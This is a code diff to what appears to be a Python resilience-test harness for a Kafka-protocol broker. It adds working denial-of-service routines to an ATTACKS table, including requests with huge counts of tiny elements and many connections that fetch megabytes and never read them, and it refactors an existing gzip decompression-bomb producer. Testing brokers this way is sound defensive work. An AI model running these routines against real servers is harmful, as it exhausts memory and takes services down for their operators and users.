@@ -19,7 +19,7 @@ from pykafka_core.protocol.messages import (
 
 MIB = 1 << 20
 PATIENCE_S = 60
-PRODUCE, FETCH, METADATA, CREATE_TOPICS = 0, 1, 3, 19
+PRODUCE, FETCH, METADATA, CREATE_TOPICS, DESCRIBE_CONFIGS = 0, 1, 3, 19, 32
 
 
 def frame(api_key: int, version: int, request: Any) -> bytes:
@@ -82,6 +82,21 @@ def create_topics_and_reset(address: str, count: int = 1_000) -> None:
     _serves(address)
 
 
+def describe_tiny_resources(address: str, count: int = 20, resources: int = 100_000) -> None:
+    """Requests whose elements are 4 bytes each, and Python objects of some hundred once they are decoded."""
+    topic_without_name = b"\x02\x01\0\0"
+    length = resources + 1
+    size = bytes([length & 0x7F | 0x80, length >> 7 & 0x7F | 0x80, length >> 14])
+    head = struct.pack(">hhih4sb", DESCRIBE_CONFIGS, 4, 7, 4, b"test", 0)
+    body = head + size + topic_without_name * resources + bytes(3)
+    with ExitStack() as stack:
+        for _ in range(count):
+            peer = stack.enter_context(connected(address))
+            peer.sendall(struct.pack(">i", len(body)) + body)
+        _serves(address)
+    _serves(address)
+
+
 def grow_fetch_session(address: str, requests: int = 12, partitions: int = 20_000) -> None:
     """One session that each incremental request makes larger."""
     with connected(address) as connection:
@@ -106,18 +121,51 @@ def grow_fetch_session(address: str, requests: int = 12, partitions: int = 20_00
 
 def bomb(size: int) -> bytes:
     """A batch whose records are ``size`` zeros, in gzip."""
-    payload = gzip.compress(bytes(size), 9)
-    after_crc = struct.pack(">hiqqqhii", 1, 0, 0, 0, -1, -1, -1, 1) + payload
+    return _batch(1, gzip.compress(bytes(size), 9))
+
+
+def batch_of(value: bytes) -> bytes:
+    """A batch of one record without key and headers."""
+    record = b"\0\0\0\1" + _varint(len(value)) + value + b"\0"
+    return _batch(0, _varint(len(record)) + record)
+
+
+def _batch(attributes: int, records: bytes) -> bytes:
+    after_crc = struct.pack(">hiqqqhii", attributes, 0, 0, 0, -1, -1, -1, 1) + records
     head = struct.pack(">ibI", 0, 2, crc32c(after_crc))
     return struct.pack(">qi", 0, len(head) + len(after_crc)) + head + after_crc
 
 
+def _varint(value: int) -> bytes:
+    zigzag, encoded = value << 1, bytearray()
+    while zigzag > 0x7F:
+        encoded.append(zigzag & 0x7F | 0x80)
+        zigzag >>= 7
+    return bytes([*encoded, zigzag])
+
+
+def produce_request(topic: str, records: bytes, acks: int = 1) -> bytes:
+    """``records`` for partition 0."""
+    data = ProduceRequest.TopicProduceData(name=topic)
+    data.partition_data = [ProduceRequest.PartitionProduceData(index=0, records=records)]
+    return frame(PRODUCE, 12, ProduceRequest(acks=acks, timeout_ms=60_000, topic_data=[data]))
+
+
+def fetch_request(topic: str, offset: int, bytes_max: int, wait_ms: int) -> bytes:
+    """Partition 0 from ``offset`` on, in no session."""
+    wanted = FetchRequest.FetchTopic(topic=topic)
+    wanted.partitions = [
+        FetchRequest.FetchPartition(partition=0, fetch_offset=offset, partition_max_bytes=bytes_max)
+    ]
+    request = FetchRequest(
+        max_wait_ms=wait_ms, min_bytes=1, max_bytes=bytes_max, session_epoch=-1, topics=[wanted]
+    )
+    return frame(FETCH, 12, request)
+
+
 def inflate_bombs(address: str, connections: int = 6, rounds: int = 2) -> None:
     """Batches that become a thousand times as large, from several connections at once."""
-    data = ProduceRequest.TopicProduceData(name="orders")
-    partition = ProduceRequest.PartitionProduceData(index=0, records=bomb(120 * MIB))
-    data.partition_data = [partition]
-    request = frame(PRODUCE, 12, ProduceRequest(acks=1, timeout_ms=1_000, topic_data=[data]))
+    request = produce_request("orders", bomb(120 * MIB))
     with ExitStack() as stack:
         peers = [stack.enter_context(connected(address)) for _ in range(connections)]
         for _ in range(rounds):
@@ -140,7 +188,31 @@ def leave_answers(address: str, connections: int = 100, seconds: float = 3) -> N
             _serves(address)
 
 
+def leave_records(address: str, connections: int = 60, batches: int = 8) -> None:
+    """Fetch megabytes of records on many connections, which the log holds in memory, and read none."""
+    topic, fetched = "wide-0", fetch_request("wide-0", 0, 8 * MIB, 0)
+    with ExitStack() as stack:
+        filler = stack.enter_context(connected(address))
+        filler.sendall(fetched)
+        (answer,) = receive(filler, FETCH, 12).responses
+        for _ in range(batches if answer.partitions[0].high_watermark == 0 else 0):
+            filler.sendall(produce_request(topic, batch_of(bytes(900_000))))
+            receive(filler, PRODUCE, 12)
+        peers = [stack.enter_context(connected(address)) for _ in range(connections)]
+        for peer in peers:
+            peer.sendall(fetched)
+        _serves(address)
+    _serves(address)
+
+
 ATTACKS: dict[str, Callable[[str], None]] = {
     attack.__name__: attack
-    for attack in (create_topics_and_reset, grow_fetch_session, inflate_bombs, leave_answers)
+    for attack in (
+        create_topics_and_reset,
+        describe_tiny_resources,
+        grow_fetch_session,
+        inflate_bombs,
+        leave_answers,
+        leave_records,
+    )
 }
